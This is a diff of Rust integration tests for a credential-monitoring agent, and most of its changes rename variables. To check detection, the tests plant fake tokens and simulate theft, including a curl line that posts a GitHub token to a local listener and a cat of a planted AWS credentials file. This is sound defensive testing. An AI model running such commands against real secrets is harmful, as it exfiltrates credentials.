@@ -17,7 +17,7 @@ use std::{
     path::Path,
 };
 
-/// An environment of 3 MB: what was not looked at is said, what was is known, and the agent lives.
+/// An environment of 3 MB: what was not inspected is said, what was is known, and the agent lives.
 pub fn environment_of_3_mb() {
     let _turn = turn();
     let scratch = Scratch::new();
@@ -45,10 +45,10 @@ pub fn environment_of_3_mb() {
     let gap = agent.expect("the gap", done.pid, |e| {
         e.reason() == "environment_truncated" && e.pid() == done.pid
     });
-    let told = gap.gap.as_ref().unwrap();
-    assert_eq!(told.count, 1, "one process: {}", gap.brief());
-    // "131072 of 3003456 bytes of the environment were looked at"
-    let numbers: Vec<u64> = told
+    let reported = gap.gap.as_ref().unwrap();
+    assert_eq!(reported.count, 1, "one process: {}", gap.brief());
+    // "131072 of 3003456 bytes of the environment were inspected"
+    let numbers: Vec<u64> = reported
         .detail
         .split(' ')
         .filter_map(|word| word.parse().ok())
@@ -58,7 +58,7 @@ pub fn environment_of_3_mb() {
     };
     let missed = all - inspected;
     assert!((2_900_000..3_010_000).contains(&missed), "{}", gap.brief());
-    agent.settle();
+    agent.wait_idle();
 }
 
 /// An ELF file that lies about its sections, under the name of OpenSSL, mapped by a process that holds a credential.
@@ -127,7 +127,7 @@ pub fn elf_that_lies() {
         });
     }
     drop(mappers);
-    agent.settle();
+    agent.wait_idle();
     assert!(!agent.log().contains("panicked"), "{}", agent.log());
 }
 
@@ -180,20 +180,20 @@ pub fn odd_proc_entries() {
         let stat = format!("/proc/{}/stat cannot be read", garbled.pid());
         e.reason() == "environment_unreadable" && e.gap.as_ref().unwrap().detail.starts_with(&stat)
     });
-    // What /proc does not tell of the garbled one, the kernel does when it executes something.
+    // What /proc does not report the garbled one, the kernel does when it executes something.
     garbled.say("go");
     let exposed = agent.expect("the garbled process as a holder", garbled.pid(), |e| {
         e.is("credential_exposed") && e.pid() == garbled.pid()
     });
     assert_eq!(exposed.env_name(), "NPM_TOKEN", "{}", exposed.brief());
     assert_eq!(exposed.process.as_ref().unwrap().comm, "sleep");
-    agent.settle();
+    agent.wait_idle();
     // The dead hold nothing.
     count(&agent.tree(zombie.pid()), 0, "events about a zombie");
     assert!(!agent.log().contains("panicked"), "{}", agent.log());
 }
 
-/// Environments of running processes that cannot be read are told, each with its process; a kernel thread has none.
+/// Environments of running processes that cannot be read are reported, each with its process; a kernel thread has none.
 pub fn environments_that_cannot_be_read() {
     let _turn = turn();
     let scratch = Scratch::new();
@@ -214,12 +214,15 @@ pub fn environments_that_cannot_be_read() {
     let gap = agent.expect("the gap", holder.pid(), |e| {
         e.reason() == "environment_unreadable" && e.pid() == holder.pid()
     });
-    let told = gap.gap.as_ref().unwrap();
+    let reported = gap.gap.as_ref().unwrap();
     assert!(
-        told.detail.contains(&format!("process {} ", holder.pid())) && !told.remedy.is_empty(),
-        "{told:?}"
+        reported
+            .detail
+            .contains(&format!("process {} ", holder.pid()))
+            && !reported.remedy.is_empty(),
+        "{reported:?}"
     );
-    agent.settle();
+    agent.wait_idle();
     let gaps: Vec<Event> = agent
         .events()
         .into_iter()
@@ -318,8 +321,11 @@ pub fn ring_that_overflows() {
     let status: keytrail_proto::v1::GetStatusResponse =
         serde_json::from_str(&own.stdout_text()).unwrap();
     let counted: u64 = status.counters.as_ref().unwrap().lost.values().sum();
-    let told: u64 = of_execs.iter().map(|e| e.gap.as_ref().unwrap().count).sum();
-    assert!(counted >= told, "{counted} counted, {told} told");
+    let reported: u64 = of_execs.iter().map(|e| e.gap.as_ref().unwrap().count).sum();
+    assert!(
+        counted >= reported,
+        "{counted} counted, {reported} reported"
+    );
 
     let token = plant::github();
     let done = sh("curl -s -d x=$GITHUB_TOKEN http://127.0.0.1:$1/; :")
@@ -365,7 +371,7 @@ pub fn escape_sequences_are_escaped() {
         e.is("credential_exposed") && e.pid() == evil_name.pid
     });
     assert!(exposed.process.as_ref().unwrap().argv[0].contains("owned"));
-    agent.settle();
+    agent.wait_idle();
     for (format, watch) in &watches {
         let pid = evil_name.pid.to_string();
         let shown = wait_for("the events in the output", patience(5), || {
@@ -425,7 +431,7 @@ pub fn odd_files_in_watched_places() {
     agent.expect("the read", done.pid, |e| {
         e.is("credential_read") && e.in_tree(done.pid)
     });
-    agent.settle();
+    agent.wait_idle();
     count(
         &of_kind(&agent.tree(done.pid), "credential_read"),
         1,
@@ -460,20 +466,20 @@ pub fn few_file_descriptors() {
     agent.expect("the send", done.pid, |e| {
         e.is("credential_sent") && e.in_tree(done.pid)
     });
-    // A file that it cannot open to look into is not passed over.
+    // A file that it cannot open to inspect is not passed over.
     let (planted, file) = plant::aws_credentials(&scratch.make("elsewhere"));
     let before = agent.sequence();
     let done = sh("cat \"$1\"; :").arg(&file).run().ok();
     assert!(done.stdout_text().contains(&planted.value));
-    // Such gaps are told every ten seconds.
+    // Such gaps are reported every ten seconds.
     wait_for("the read, or a gap about it", patience(20), || {
         let events = agent.events();
-        let told = events.iter().any(|e| {
+        let reported = events.iter().any(|e| {
             e.sequence() > before
                 && ((e.is("credential_read") && e.in_tree(done.pid))
                     || e.reason() == "file_unreadable")
         });
-        told.then_some(())
+        reported.then_some(())
     });
     // And recovers.
     drop(idle);
